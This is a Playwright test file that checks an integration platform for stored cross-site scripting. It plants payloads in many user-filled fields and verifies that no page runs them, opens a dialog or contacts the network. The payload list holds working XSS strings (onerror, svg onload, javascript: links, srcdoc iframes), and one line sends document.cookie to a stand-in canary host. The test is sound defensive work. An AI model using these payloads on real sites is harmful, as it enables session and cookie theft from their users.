// Stored XSS: payloads in every field that somebody fills, and every page opened under our own policy. Nothing
// of it may run, ask the network, open a dialog, or even be stopped by the policy: it must not get so far.
import { appendFileSync } from "node:fs";
import type { Page } from "@playwright/test";

import type { Api } from "../fixtures/api.ts";
import { create, document, publish, save, step } from "../fixtures/document.ts";
import { contextOf, expect, join, PASSWORD, test } from "../fixtures/test.ts";

/** What a payload does when it runs. */
const act = "window.through=(window.through||0)+1;fetch('https://canary.invalid/'+document.cookie)";

const payloads = [
  `<img src=x onerror="${act}">`,
  `"><script>${act}</script>`,
  `</script></style></textarea></title><svg/onload="${act}">`,
  `' onfocus='${act}' autofocus='`,
  `<iframe srcdoc="<script>parent.${act}</script>">`,
  `[a](javascript:${act}) ![b](x" onerror="${act})`,
  `<a href="javascript:${act}">a</a><form action="javascript:1"><button>b`,
  `<https://canary.invalid/"onmouseover="${act}> \`\`\`<img src=x onerror="${act}">`,
];

/** Names are short: what of a payload fits, and still runs where it can. */
const short = (payload: string): string => payload.replaceAll(act, "through=1").slice(0, 110);

/** Watches a page for everything that a payload would do. */
async function trap(page: Page, found: string[]): Promise<void> {
  page.on("dialog", async (dialog) => {
    found.push(`${page.url()} opened a dialog: ${dialog.message()}`);
    await dialog.dismiss().catch(() => undefined);
  });
  page.on("request", (request) => {
    if (request.url().includes("canary.invalid") || request.url().endsWith("/x")) {
      found.push(`${page.url()} asked for ${request.url()}`);
    }
  });
  page.on("pageerror", (error) => found.push(`${page.url()} failed: ${error.message}`));
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => {
      const kept = ((globalThis as any).violations ??= []) as string[];
      kept.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
}

/** Looks at what is drawn, and at what happened. */
async function inspect(page: Page, found: string[]): Promise<void> {
  const seen = await page.evaluate(() => {
    const own = (source: string) => source === "" || source.startsWith(`${location.origin}/`);
    const odd: string[] = [];
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || name === "srcdoc" || /^\s*(javascript|vbscript|data:text)/i.test(value)) {
          odd.push(`${element.tagName} ${name}=${value.slice(0, 80)}`);
        }
      }
      if (/^(IFRAME|OBJECT|EMBED|BASE)$/.test(element.tagName)) {
        odd.push(element.tagName);
      }
      if (element instanceof HTMLScriptElement && !own(element.src)) {
        odd.push(`SCRIPT ${element.src}`);
      }
      if (element instanceof HTMLImageElement && !own(element.src) && !element.src.startsWith("data:image/")) {
        odd.push(`IMG ${element.src}`);
      }
    }
    const { through, violations } = globalThis as any;
    return { odd, through: through ?? 0, violations: (violations ?? []) as string[] };
  });
  found.push(...seen.odd.map((odd) => `${page.url()} holds ${odd}`));
  found.push(...seen.violations.map((violation) => `${page.url()} was kept from ${violation}`));
  if (seen.through > 0) {
    found.push(`${page.url()} ran a payload`);
  }
}

/** Opens a page, all that is folded on it, and looks. */
async function open(page: Page, path: string, found: string[]): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole("main")).toBeVisible();
  await expect(page.getByRole("heading").first()).toBeVisible();
  for (const button of await page.getByRole("main").getByRole("button", { expanded: false }).all()) {
    await button.click({ timeout: 2_000 }).catch(() => undefined);
  }
  await page.keyboard.press("Tab");
  await inspect(page, found);
}

interface Sowed {
  pages: string[];
  fields: number;
}

/** Puts a payload into every field around one integration; returns the pages that show it. */
async function sow(admin: Api, collaborator: Api, payload: string, number: number): Promise<Sowed> {
  const name = `${number} ${short(payload)}`;
  const texts = {
    log: step("Note", "log", { message: payload }),
    call: step("Call", "http.request", {
      method: "POST",
      url: `http://127.0.0.1:9/${encodeURIComponent(payload)}`,
      headers: { "X-Odd": payload.replaceAll(/[^\x20-\x7e]/g, "") },
      body_type: "text",
      text: payload,
    }),
    stop: step("Stop", "stop", { message: payload }),
  };
  for (const one of Object.values(texts)) {
    one.name = short(payload);
    (one as any).notes = payload;
  }
  (texts.call as any).on_error = { then: "continue", retries: 0 };
  const made = document("webhook", [texts.log, texts.call]);
  const draft = await create(admin, name, made);
  const { integration, webhookPath } = await publish(admin, draft);
  const body = JSON.stringify({ [payload]: payload, list: [payload] });
  const headers = { "content-type": "application/json", "x-odd": encodeURIComponent(payload) };
  const called = await fetch(`${admin.url}${webhookPath}?q=${encodeURIComponent(payload)}`, { method: "POST", body, headers });
  const { run } = await called.json();
  await expect.poll(async () => (await admin.call("read_run", { id: run })).summary.state).toMatch(/succeeded|failed/);

  const failing = document("manual", [texts.stop]);
  const failed = await publish(admin, await create(admin, `F${name}`, failing));
  const failedRun = await admin.call<string>("start_manual", { id: failed.integration, payload: { [payload]: payload } });
  await expect.poll(async () => (await admin.call("read_run", { id: failedRun })).summary.state).toMatch(/succeeded|failed/);

  const next = await collaborator.call<string>("start_draft", { integration, title: short(payload) });
  await save(collaborator, next, [{ set_notes: { step: texts.log.id, notes: `${payload} changed` } }]);
  await collaborator.call("pin", { id: next, step: texts.log.id, output: { [payload]: payload } });
  const about = { draft: next, title: short(payload), description: payload, reviewers: [] };
  const review = await collaborator.call<string>("create_review", about);
  const { summary } = await collaborator.call("read_draft", { id: next });
  const anchor = { target: { step: texts.log.id }, field: "notes", range: null };
  const comment = { body: payload, suggestion: null, pending: false };
  await admin.call("start_thread", { id: review, anchor, on_base: false, revision: summary.revision, ...comment });
  await admin.call("submit_review", { id: review, revision: summary.revision, verdict: "comment", message: payload });
  return {
    pages: [
      `/integrations/${integration}`,
      `/integrations/${failed.integration}`,
      `/integrations/${integration}/versions/1`,
      `/drafts/${next}`,
      `/reviews/${review}`,
      `/runs/${run}`,
      `/runs/${failedRun}`,
    ],
    fields: 22,
  };
}

test("nothing that somebody typed or sent runs in anybody's page", async ({ browser, emptyServer: server }) => {
  test.setTimeout(600_000);
  const found: string[] = [];
  const { Api } = await import("../fixtures/api.ts");
  const admin = new Api(server.url);
  const about = { organization: short(payloads[0]!), name: short(payloads[1]!), email: "admin@example.com" };
  await admin.call("set_up", { ...about, password: PASSWORD });
  const collaborator = await join(admin, "collaborator", short(payloads[2]!), "collaborator@example.com");
  await admin.call("set_policy", { integration: null, policy: { approvals: 0 } });
  await admin.call("set_network", { allowed: ["127.0.0.0/8"] });
  let fields = 4;
  const pages = ["/", "/inbox", "/runs", "/new"];
  for (const page of ["members", "alerts", "retention", "network", "connections", "connectors", "review"]) {
    pages.push(`/settings/${page}`);
  }
  for (const [number, payload] of payloads.entries()) {
    const sowed = await sow(admin, collaborator, payload, number);
    pages.push(...sowed.pages);
    fields += sowed.fields;
    const names = { kind: "headers", names: ["X-Odd"], origins: ["https://shop.example.com"] };
    const form = { name: short(payload), ...names, live: { set: ["a-secret-of-it"] }, test: "keep" };
    await admin.call("create_connection", { form });
    const key = `odd-${number}`;
    const about = { title: short(payload), description: payload };
    const input = { type: "object", properties: { odd: { type: "string", ...about } } };
    const action = { key: "do", ...about, group: short(payload).slice(0, 60), method: "GET", path: "/", input };
    const auth = [{ kind: "bearer", help: payload }];
    const base = "https://shop.example.com";
    const file = { form: 1, key, ...about, version: short(payload).slice(0, 60), icon: "plug", docs: payload, base, auth, actions: [action] };
    const source = { text: { text: JSON.stringify(file), name: "shop.json" } };
    const { digest } = await admin.call("preview_connector", { source, base: null });
    await admin.call("import_connector", { source, base: null, digest });
    pages.push(`/settings/connectors/${key}`);
    fields += 11;
  }
  // Both are shown the same things; who is no Admin sees some of them otherwise.
  for (const [api, seen] of [[admin, pages], [collaborator, pages.slice(0, 20)]] as const) {
    const context = await contextOf(browser, api);
    const page = await context.newPage();
    await trap(page, found);
    for (const path of seen) {
      await open(page, path, found);
    }
    // The trap itself works: what is put into the page past all of our code is found.
    const [planted, before]: [string[], number] = [[], found.length];
    await page.evaluate((payload) => document.body.insertAdjacentHTML("beforeend", payload), payloads[0]!);
    await inspect(page, planted);
    expect(planted).not.toEqual([]);
    await context.close();
    found.length = before;
  }
  const report = process.env.SLUICE_HOSTILE_REPORT;
  if (report) {
    appendFileSync(report, `class=xss inputs=${fields} through=${found.length}\n`);
  }
  expect(fields).toBeGreaterThan(200);
  expect(found).toEqual([]);
});
